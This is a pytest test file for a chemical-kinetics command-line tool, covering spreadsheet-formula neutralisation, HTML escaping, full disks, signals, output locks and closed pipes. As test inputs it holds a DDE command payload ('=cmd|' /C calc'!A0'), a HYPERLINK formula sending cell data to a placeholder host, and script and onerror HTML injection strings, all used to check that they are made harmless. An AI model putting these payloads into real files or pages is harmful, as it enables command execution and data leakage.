"""Hostile outputs: formulas in text cells, HTML in titles, two sweeps on one output,
SIGTERM, full disks and closed pipes.

Each test asserts the exact outcome: the exit status and the message, the content of the
file, or that nothing is left behind.  Full disks are simulated two ways: the kernel's
file-size limit (``RLIMIT_FSIZE``; a write beyond it fails with EFBIG, "File too large",
in the real writers of every format) and, for the wording of ENOSPC, an error raised by
a patched write.  Real subprocesses are used for signals and closed pipes.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import kinetics
from kinetics import files
from kinetics.cli import main
from kinetics.cli.common import FIRST_USE, FIRST_USE_OPERATIONS, FIRST_USE_SWEEP
from kinetics.errors import OutputFileError, SweepStoreError
from kinetics.output import export
from kinetics.sweep import chunk_result, make_plan
from kinetics.sweep import store as sweep_store

from conftest import run_cli

ROOT = Path(__file__).resolve().parents[1]
CHAIN = """title: Hostile chain
A -> B    k1 = 0.1 1/min
B -> C    k2 = 0.05 1/min
start A = 1 mol/L
"""


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def scheme_file(folder: Path, name: str = "chain.scheme", title: str | None = None) -> Path:
    text = CHAIN if title is None else CHAIN.replace("Hostile chain", title)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------
# Formulas in exported text cells
# ---------------------------------------------------------------------------------------

# OWASP "CSV Injection": = + - @ tab and carriage return start a formula; the full-width
# forms are typed by East Asian input methods and converted by some spreadsheet
# programs (from memory, no source); leading blanks are trimmed by some CSV importers.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", "\u3000@"]


@pytest.mark.parametrize("start", TRIGGERS)
def test_text_that_starts_a_formula_gets_an_apostrophe(start):
    text = start + 'HYPERLINK("http://example.invalid/?"&A1,"open")'
    assert files.spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["B [mol/L]", "k1", "", "'=already quoted", "a=b", "0.5"])
def test_plain_text_is_unchanged(text):
    assert files.spreadsheet_text(text) == text


@given(st.text(max_size=40))
def test_no_neutralised_text_starts_a_formula(text):
    out = files.spreadsheet_text(text)
    # idempotent, and either unchanged or the original behind one apostrophe
    assert files.spreadsheet_text(out) == out
    assert out in (text, "'" + text)
    assert out[:1] not in files.FORMULA_TRIGGERS
    assert out.lstrip()[:1] not in files.FORMULA_TRIGGERS or out.startswith("'")


HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def _inputs_cells(path: Path):
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [c for row in book["inputs"].iter_rows() for c in row if c.value is not None]


def test_title_and_file_name_are_text_cells_in_the_workbook(folder, capsys):
    source = scheme_file(folder, "=cmd|x!A1.scheme", title=HYPERLINK)
    status, _, err = run_cli(
        capsys, "solve", source.name, "--until", "1h", "--out", "t.xlsx", "--no-caution"
    )
    assert (status, err) == (0, "wrote t.xlsx\n")
    cells = _inputs_cells(folder / "t.xlsx")
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + HYPERLINK in values  # settings: title
    assert "'=cmd|x!A1.scheme" in values  # settings: source
    assert f"title: {HYPERLINK}" in values  # the scheme as written starts with a letter


def test_every_text_cell_of_a_workbook_is_neutralised(tmp_path):
    frame = pd.DataFrame({"time [s]": [0.0, 1.0], "X [mol/L]": [-1.5, 2.0]})
    rows = [{"species": "@X", "notes": DDE, "c_max [mol/L]": -0.25, "line": 3}]
    inputs = {"settings": [{"setting": "title", "value": "+1+1"}, {"setting": "n", "value": 7}]}
    export.write_xlsx(
        frame, tmp_path / "w.xlsx", summary_rows=rows, inputs=inputs, scheme_text="-A\n\tB"
    )
    from openpyxl import load_workbook

    book = load_workbook(tmp_path / "w.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"'@X", "'" + DDE, "'+1+1", "'-A", "'\tB"} <= texts
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -1.5 in numbers
    assert -0.25 in numbers
    assert 7 in numbers


def test_csv_text_cells_and_headers_are_neutralised(tmp_path):
    frame = pd.DataFrame({"=H": ["-x", "ok", None], "v": [-1.0, 2.5, 3.0]})
    export.write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == ("'=H,v\n'-x,-1.0\nok,2.5\n,3.0\n")


def test_control_characters_and_overlong_text_make_a_valid_workbook(folder, capsys):
    # a scheme file never holds control characters (the language refuses them); any text
    # that reaches the writer another way is still made safe
    source = scheme_file(folder, title="\x01bell\x1b[31m")
    status, _, err = run_cli(
        capsys, "solve", source, "--until", "1h", "--out", "c.xlsx", "--no-caution"
    )
    assert status == 2
    assert err.startswith(
        f"kinetics: {source}:1:8: this line contains the control character U+0001, which a "
        "scheme file never holds"
    )
    assert not (folder / "c.xlsx").exists()
    frame = pd.DataFrame({"time [s]": [0.0], "X [mol/L]": [1.0]})
    export.write_xlsx(frame, folder / "c.xlsx", inputs={"t": [{"title": "\x01bell\x1b[31m"}]})
    assert "\\x01bell\\x1b[31m" in [c.value for c in _inputs_cells(folder / "c.xlsx")]
    long = "x" * 40_000
    export.write_xlsx(frame, folder / "l.xlsx", inputs={"t": [{"text": long}]})
    (cell,) = [c.value for c in _inputs_cells(folder / "l.xlsx") if str(c.value).startswith("xx")]
    assert len(cell) == export.XLSX_MAX_TEXT
    assert cell.endswith("… [cut: 40,000 characters in all]")


def test_a_table_larger_than_a_sheet_is_refused_before_solving(folder, capsys):
    source = scheme_file(folder)
    status, _, err = run_cli(
        capsys,
        "solve",
        source,
        "--until",
        "1h",
        "--points",
        "1048576",
        "--out",
        "big.xlsx",
        "--no-caution",
    )
    assert status == 2
    assert err == (
        "kinetics: the output file 'big.xlsx' would need 1,048,577 rows and 4 columns, more "
        "than a spreadsheet holds (1,048,576 rows, 16,384 columns); write .csv or .parquet "
        "for a table this large, or use fewer points\n"
    )
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme"]


def test_json_and_parquet_keep_the_text_as_written(folder, capsys):
    # JSON and Parquet keep text and numbers apart: no program reads their strings as
    # formulas, so the text stays exactly what the user wrote
    import pyarrow.parquet as pq

    source = scheme_file(folder, title=HYPERLINK)
    assert (
        main(
            [
                "solve",
                str(source),
                "--until",
                "1h",
                "--out",
                "t.json",
                "--out",
                "t.parquet",
                "--no-caution",
            ]
        )
        == 0
    )
    assert json.loads((folder / "t.json").read_text(encoding="utf-8"))["title"] == HYPERLINK
    meta = json.loads(pq.read_schema(folder / "t.parquet").metadata[b"kinetics"])
    assert meta["title"] == HYPERLINK


def test_a_pipe_or_device_as_output_is_refused(folder, capsys):
    os.mkfifo(folder / "fifo.csv")
    status, _, err = run_cli(
        capsys, "solve", scheme_file(folder), "--until", "1h", "--out", "fifo.csv", "--no-caution"
    )
    assert (status, err) == (
        2,
        "kinetics: the output path 'fifo.csv' is not a regular file (a pipe or a device); "
        "give the name of a file\n",
    )


def test_a_link_to_an_output_stays_a_link(folder, capsys):
    (folder / "real.csv").write_text("old\n", encoding="utf-8")
    (folder / "link.csv").symlink_to("real.csv")
    status, _, err = run_cli(
        capsys, "solve", scheme_file(folder), "--until", "1h", "--out", "link.csv", "--no-caution"
    )
    assert (status, err) == (0, "wrote link.csv\n")
    assert (folder / "link.csv").is_symlink()
    assert (folder / "real.csv").read_text(encoding="utf-8").startswith("time [h],A [mol/L]")


def test_a_long_output_name_is_written(folder, capsys):
    name = "n" * 246 + ".csv"  # 250 bytes: the longest names the file system allows, nearly
    status, _, err = run_cli(
        capsys, "solve", scheme_file(folder), "--until", "1h", "--out", name, "--no-caution"
    )
    assert (status, err) == (0, f"wrote {name}\n")


# ---------------------------------------------------------------------------------------
# User text in HTML and in plots
# ---------------------------------------------------------------------------------------

SCRIPT_TITLE = 'costs $x^{ and $ </title><script>alert("t")</script> & done'


def test_report_escapes_title_file_name_and_scheme(folder, capsys):
    source = scheme_file(folder, "<img src=x onerror=alert(1)>.scheme", title=SCRIPT_TITLE)
    status, _, err = run_cli(
        capsys, "report", source.name, "--until", "1h", "--out", "r.html", "--no-caution"
    )
    assert (status, err) == (0, "wrote r.html\n")
    html = (folder / "r.html").read_text(encoding="utf-8")
    assert "<script" not in html
    assert "<img src=x" not in html
    assert (
        "<title>costs $x^{ and $ &lt;/title&gt;&lt;script&gt;alert(&quot;t&quot;)"
        "&lt;/script&gt; &amp; done — kinetics report</title>" in html
    )
    assert "<code>&lt;img src=x onerror=alert(1)&gt;.scheme</code>" in html


@pytest.mark.slow  # draws figures
def test_dollar_signs_in_titles_and_file_names_are_drawn_as_written(folder, capsys):
    # matplotlib reads $...$ as a formula unless told not to; a bad one was an internal error
    source = scheme_file(folder, "$x^{.scheme", title="$\\frac{$")
    status, _, err = run_cli(
        capsys, "solve", source, "--until", "1h", "--out", "p.png", "--out", "p.svg", "--no-caution"
    )
    assert (status, err) == (0, "wrote p.png\nwrote p.svg\n")
    assert "$\\frac{$" in (folder / "p.svg").read_text(encoding="utf-8").replace("&#36;", "$")
    status, _, err = run_cli(
        capsys,
        "sweep",
        source,
        "--until",
        "1h",
        "--vary",
        "k2=0.01,0.1",
        "--plot",
        "t_max:B",
        "--plot-out",
        "s.png",
        "--no-caution",
    )
    assert (status, err) == (0, "wrote s.png\n")
    data = folder / "$run{.csv"
    data.write_text("time [min],B [mol/L]\n0,0\n5,0.3\n10,0.45\n20,0.5\n40,0.35\n", "utf-8")
    status, out, err = run_cli(
        capsys,
        "fit",
        source,
        data,
        "--free",
        "k1",
        "--plot",
        "f.png",
        "--no-caution",
        "--no-profile",
    )
    assert (status, err) == (0, "wrote f.png\n")
    assert out.startswith("parameter")


# ---------------------------------------------------------------------------------------
# Full disks
# ---------------------------------------------------------------------------------------


@pytest.fixture
def small_disk(monkeypatch):
    """Let output files grow to a limit only (the kernel then refuses with EFBIG).

    The limit (RLIMIT_FSIZE) is set while an output file is open and lifted when the last
    one is closed, so that nothing else the process writes is affected.
    """
    resource = pytest.importorskip("resource")
    original = resource.getrlimit(resource.RLIMIT_FSIZE)
    real = files.atomic_path
    state = {"limit": None, "open": 0}

    @contextlib.contextmanager
    def limited(path):
        with real(path) as tmp:
            state["open"] += 1
            limit = original[0] if state["limit"] is None else state["limit"]
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, original[1]))
            try:
                yield tmp
            finally:
                state["open"] -= 1
                if not state["open"]:
                    resource.setrlimit(resource.RLIMIT_FSIZE, original)

    monkeypatch.setattr(files, "atomic_path", limited)
    monkeypatch.setattr(sweep_store, "atomic_path", limited)
    yield lambda n: state.update(limit=n)
    resource.setrlimit(resource.RLIMIT_FSIZE, original)


def too_large(path) -> str:
    return (
        f"kinetics: {path}: not written (File too large); free some space or write to "
        "another disk; no partial file was left behind\n"
    )


@pytest.mark.slow  # every writer against a small disk
@pytest.mark.parametrize("name", ["t.csv", "t.xlsx", "t.json", "t.parquet", "t.png", "t.svg"])
def test_full_disk_names_the_file_and_leaves_nothing(folder, capsys, small_disk, name):
    source = scheme_file(folder)
    small_disk(4096)
    status, _, err = run_cli(
        capsys, "solve", source, "--until", "1h", "--points", "2000", "--out", name, "--no-caution"
    )
    assert (status, err) == (2, too_large(name))  # no ZipFile traceback for .xlsx
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme"]


@pytest.mark.slow  # the HTML report against a small disk
def test_full_disk_report(folder, capsys, small_disk):
    source = scheme_file(folder)
    small_disk(4096)
    status, _, err = run_cli(
        capsys, "report", source, "--until", "1h", "--out", "r.html", "--no-caution"
    )
    assert (status, err) == (2, too_large("r.html"))
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme"]


def test_several_outputs_say_which_were_written(folder, capsys, small_disk):
    source = scheme_file(folder)
    small_disk(100_000)  # 2000 points: Parquet about 75 kB, CSV 156 kB, JSON 211 kB
    status, _, err = run_cli(
        capsys,
        "solve",
        source,
        "--until",
        "1h",
        "--points",
        "2000",
        "--out",
        "a.parquet",
        "--out",
        "b.csv",
        "--out",
        "c.json",
        "--no-caution",
    )
    assert status == 2
    assert err == "wrote a.parquet\n" + too_large("b.csv") + "kinetics: also not written: c.json\n"
    assert sorted(p.name for p in folder.iterdir()) == ["a.parquet", "chain.scheme"]


def test_fit_prints_the_estimates_before_a_full_disk(folder, capsys, small_disk):
    source = ROOT / "networks" / "consecutive_intermediate.scheme"
    data = ROOT / "networks" / "consecutive_intermediate_samples.csv"
    small_disk(20_000)  # fit.json fits, the plot does not
    status, out, err = run_cli(
        capsys,
        "fit",
        source,
        data,
        "--free",
        "k1,k2",
        "--out",
        "fit.json",
        "--plot",
        "fit.png",
        "--no-caution",
        "--no-profile",
    )
    assert status == 2
    assert out.startswith("parameter  value")
    assert "k1" in out
    assert "k2" in out
    assert err == "wrote fit.json\n" + too_large("fit.png")
    assert sorted(p.name for p in folder.iterdir()) == ["fit.json"]


def test_enospc_is_worded_with_the_file_and_what_to_do(folder, capsys, monkeypatch):
    source = scheme_file(folder)

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(Path, "write_text", full)
    status, _, err = run_cli(
        capsys, "solve", source, "--until", "1h", "--out", "t.json", "--no-caution"
    )
    assert status == 2
    assert err == (
        "kinetics: t.json: not written (No space left on device); free some space or "
        "write to another disk; no partial file was left behind\n"
    )
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme"]


def test_errno_in_the_text_of_a_library_error_is_read():
    # pyarrow reports "Error writing bytes to file. Detail: [errno 28] No space left on device"
    exc = OSError("Error writing bytes to file. Detail: [errno 28] No space left on device")
    assert str(files.output_error(exc, "t.parquet")) == (
        "t.parquet: not written (No space left on device); free some space or write to "
        "another disk; no partial file was left behind"
    )
    denied = OSError(errno.EACCES, "Permission denied")
    assert str(files.output_error(denied, "t.csv", "nothing else changed")) == (
        "t.csv: not written (Permission denied); write to a folder you may write to; "
        "nothing else changed"
    )


def test_the_api_names_the_file_of_a_missing_folder(tmp_path):
    result = kinetics.solve(kinetics.parse(CHAIN), [0.0, 60.0, 120.0])
    target = tmp_path / "missing" / "x.png"
    with pytest.raises(OutputFileError) as info:
        result.plot(target)
    assert str(info.value) == (
        f"{target}: not written (No such file or directory); create the folder "
        f"{str(target.parent)!r} first or write elsewhere; no partial file was left behind"
    )


def test_an_os_error_without_a_file_name_says_so(folder, capsys, monkeypatch):
    import kinetics.solution

    def failing(scheme, times):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(kinetics.solution, "solve", failing)
    status, _, err = run_cli(capsys, "solve", scheme_file(folder), "--until", "1h", "--no-caution")
    assert (status, err) == (
        2,
        "kinetics: a file operation failed (No space left on device); --debug shows which one\n",
    )


def test_sweep_table_on_a_full_disk_keeps_the_chunks_for_resume(folder, capsys, small_disk):
    source = scheme_file(folder)
    argv = [
        "sweep",
        source,
        "--until",
        "1h",
        "--vary",
        "k2=0.01:1:200",
        "--chunk-size",
        "50",
        "--out",
        "s.csv",
        "--no-caution",
    ]
    small_disk(8192)  # the manifest fits, the table does not
    status, _, err = run_cli(capsys, *argv)
    assert status == 2
    assert err == too_large("s.csv") + (
        "kinetics: the finished chunks are kept in 's.csv.chunks': the same command with "
        "--resume continues\n"
    )
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme", "s.csv.chunks"]
    small_disk(None)
    status, _, err = run_cli(capsys, *argv, "--resume")
    assert (status, err) == (
        0,
        "resumed: 4 of 4 chunks were already done, computed 0\nwrote s.csv\n",
    )
    assert len(pd.read_csv(folder / "s.csv")) == 200


def test_chunk_on_a_full_disk(folder, capsys, monkeypatch):
    source = scheme_file(folder)
    real = np.savez

    def savez(fh, **arrays):
        if int(arrays["index"]) == 1:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real(fh, **arrays)

    monkeypatch.setattr(sweep_store.np, "savez", savez)
    # one thread: chunk 0 is finished before chunk 1 fails (with two, either may be first)
    monkeypatch.setattr("os.cpu_count", lambda: 1)
    status, _, err = run_cli(
        capsys,
        "sweep",
        source,
        "--until",
        "1h",
        "--vary",
        "k2=0.01:1:40",
        "--chunk-size",
        "10",
        "--out",
        "s.csv",
        "--no-caution",
    )
    assert status == 2
    assert err == (
        "kinetics: s.csv.chunks/chunk_000001.npz: not written (No space left on device); "
        "free some space or write to another disk; no partial file was left behind\n"
        "kinetics: the finished chunks are kept in 's.csv.chunks': the same command with "
        "--resume continues\n"
    )
    left = {p.name for p in (folder / "s.csv.chunks").iterdir()}
    # chunks are computed two at a time: others may have finished; chunk 1 is not there
    assert "manifest.json" in left
    assert "chunk_000000.npz" in left
    assert left <= {"manifest.json", "chunk_000000.npz", "chunk_000002.npz", "chunk_000003.npz"}


# ---------------------------------------------------------------------------------------
# Two sweeps with the same output
# ---------------------------------------------------------------------------------------


def test_a_sweep_refuses_an_output_another_sweep_is_writing(folder, capsys):
    source = scheme_file(folder)
    argv = ["sweep", source, "--until", "1h", "--vary", "k2=0.01:1:8", "--no-caution"]
    held = sweep_store.OutputLock(folder / "s.csv")  # as if another process ran
    try:
        for extra in (["--out", "s.csv"], ["--out", "t.csv", "--curves", "s.csv"]):
            status, _, err = run_cli(capsys, *argv, *extra)
            assert (status, err) == (
                2,
                f"kinetics: another sweep (process {os.getpid()}) is writing 's.csv'; wait "
                "until it has finished, or give this sweep other output names\n",
            )
        assert sorted(p.name for p in folder.iterdir()) == [".s.csv.lock", "chain.scheme"]
    finally:
        held.release()
    assert main([*map(str, argv), "--out", "s.csv"]) == 0
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme", "s.csv"]


def test_a_lock_file_left_by_a_dead_process_is_taken_over(folder, capsys):
    (folder / ".s.csv.lock").write_text("999999999", encoding="ascii")
    source = scheme_file(folder)
    status, _, err = run_cli(
        capsys,
        "sweep",
        source,
        "--until",
        "1h",
        "--vary",
        "k2=0.01:1:8",
        "--out",
        "s.csv",
        "--no-caution",
    )
    assert (status, err) == (0, "wrote s.csv\n")
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme", "s.csv"]


def test_a_chunk_of_another_sweep_is_never_read(tmp_path):
    chain = kinetics.parse(CHAIN)
    times = np.linspace(0, 3600, 11)
    mine = make_plan(chain, ["k2=0.01:1:4"], times, chunk_size=2)
    other = make_plan(chain, ["k2=0.02:2:4"], times, chunk_size=2)
    folder = tmp_path / "s.csv.chunks"
    sweep_store.ChunkStore(folder, other, curves=False, resume=False).write(
        chunk_result(other, 0, 2, index=0)
    )
    # a run without locks (a network share) that replaced the manifest in between
    manifest = {"hash": mine.definition_hash(False)}
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    store = sweep_store.ChunkStore(folder, mine, curves=False, resume=True)
    with pytest.raises(SweepStoreError) as info:
        store.read(0)
    assert str(info.value) == (
        f"the chunk file {str(folder / 'chunk_000000.npz')!r} belongs to another sweep; "
        "delete the folder and run again (another sweep wrote into it)"
    )


# ---------------------------------------------------------------------------------------
# Signals and pipes (real subprocesses)
# ---------------------------------------------------------------------------------------


def _kinetics(*argv, **kw):
    return subprocess.Popen([sys.executable, "-m", "kinetics", *map(str, argv)], **kw)


@pytest.mark.slow  # subprocesses and a signal
def test_sigterm_while_writing_tables_leaves_no_part_file(folder, capsys):
    source = scheme_file(folder)
    argv = [
        "sweep",
        source,
        "--until",
        "1h",
        "--points",
        "300",
        "--vary",
        "k2=0.01:1:600",
        "--chunk-size",
        "100",
        "--out",
        "s.csv",
        "--curves",
        "c.csv",
        "--no-caution",
    ]
    proc = _kinetics(*argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and proc.poll() is None:
            parts = list(folder.glob(".c.csv.*.part.csv"))
            if parts:  # the tables are being written
                break
            time.sleep(0.002)
        assert parts, "the sweep ended before it wrote its tables"
        # a second sweep on the same output is refused while this one runs
        status, _, err = run_cli(capsys, *argv)
        assert (status, err) == (
            2,
            f"kinetics: another sweep (process {proc.pid}) is writing 's.csv'; wait until "
            "it has finished, or give this sweep other output names\n",
        )
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 143
    # on a fresh installation the subprocess may first say that it compiles the engine
    lines = [
        x
        for x in err.decode().splitlines(keepends=True)
        if x.rstrip() not in (FIRST_USE, FIRST_USE_SWEEP, FIRST_USE_OPERATIONS)
    ]
    assert "".join(lines) == (
        "kinetics: terminated\nkinetics: the finished chunks are kept in 's.csv.chunks': "
        "the same command with --resume continues\n"
    )
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme", "s.csv.chunks"]
    assert main([*map(str, argv), "--resume"]) == 0
    assert len(pd.read_csv(folder / "s.csv")) == 600


def test_sigterm_in_process_exits_143_and_leaves_no_file(folder, capsys, monkeypatch):
    source = scheme_file(folder)
    real = export.write_csv

    def killed(frame, path):
        with files.atomic_path(path) as tmp:
            tmp.write_text("time [min],A [mol/L]\n0,", encoding="utf-8")
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(5)  # the handler interrupts the sleep
        real(frame, path)

    monkeypatch.setattr(export, "write_csv", killed)
    before = signal.getsignal(signal.SIGTERM)
    status, _, err = run_cli(
        capsys, "solve", source, "--until", "1h", "--out", "a.csv", "--out", "b.csv", "--no-caution"
    )
    assert (status, err) == (143, "kinetics: terminated\nkinetics: also not written: b.csv\n")
    assert sorted(p.name for p in folder.iterdir()) == ["chain.scheme"]
    assert signal.getsignal(signal.SIGTERM) is before  # restored after the run


def test_a_signal_the_parent_ignores_stays_ignored(folder, capsys):
    # nohup makes SIGHUP ignored: the run must not take it over
    previous = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        assert main(["safety"]) == 0
        assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
    finally:
        signal.signal(signal.SIGHUP, previous)
    capsys.readouterr()


@pytest.mark.slow  # subprocesses
@pytest.mark.parametrize("extra", [[], ["--json"]])
def test_a_closed_pipe_ends_quietly(folder, extra):
    source = scheme_file(folder)
    proc = _kinetics(
        "solve",
        source,
        "--until",
        "1h",
        "--points",
        "100000",
        "--no-caution",
        *extra,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    with proc:
        first = proc.stdout.readline()
        proc.stdout.close()  # like | head -1
        err = proc.stderr.read()
        proc.wait(timeout=120)
    assert first
    # on a fresh installation the run may first say that it compiles the engine
    notes = (FIRST_USE, FIRST_USE_SWEEP, FIRST_USE_OPERATIONS)
    err = b"".join(x for x in err.splitlines(keepends=True) if x.decode().rstrip() not in notes)
    assert (proc.returncode, err) == (141, b"")


# ---------------------------------------------------------------------------------------
# Progress
# ---------------------------------------------------------------------------------------


def test_progress_shows_the_remaining_time_on_a_terminal(monkeypatch, capsys):
    from kinetics.cli.terminal import progress

    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "100")
    with progress(4, "sweeping", delay=0.0) as bar:
        time.sleep(0.2)
        bar.step()
        time.sleep(0.2)
    err = capsys.readouterr().err
    assert "sweeping" in err
    assert "1/4" in err
    assert "-:--:--" in err or "0:00:0" in err  # the estimate of the remaining time


def test_progress_is_silent_when_stderr_is_not_a_terminal(folder, capsys):
    source = scheme_file(folder)
    status, _, err = run_cli(
        capsys,
        "sweep",
        source,
        "--until",
        "1h",
        "--vary",
        "k2=0.01:1:50",
        "--chunk-size",
        "5",
        "--out",
        "s.csv",
        "--no-caution",
    )
    assert (status, err) == (0, "wrote s.csv\n")


def test_sweep_reports_progress_while_computing_and_writing(tmp_path):
    chain = kinetics.parse(CHAIN)
    plan = make_plan(chain, ["k2=0.01:1:30"], np.linspace(0, 3600, 5), chunk_size=10)
    seen = []
    sweep_store.run_sweep(
        plan,
        [tmp_path / "s.csv"],
        threads=1,
        on_progress=lambda done, total: seen.append(("compute", done, total)),
        on_writing=lambda done, total: seen.append(("write", done, total)),
    )
    assert seen == [
        ("compute", 0, 3),
        ("compute", 1, 3),
        ("compute", 2, 3),
        ("compute", 3, 3),
        ("write", 1, 3),
        ("write", 2, 3),
        ("write", 3, 3),
    ]


def test_output_file_error_pickles():
    import pickle

    exc = OutputFileError("not written (x)", "t.csv", "hint")
    assert str(pickle.loads(pickle.dumps(exc))) == "t.csv: not written (x); hint"
    assert isinstance(exc, OSError)
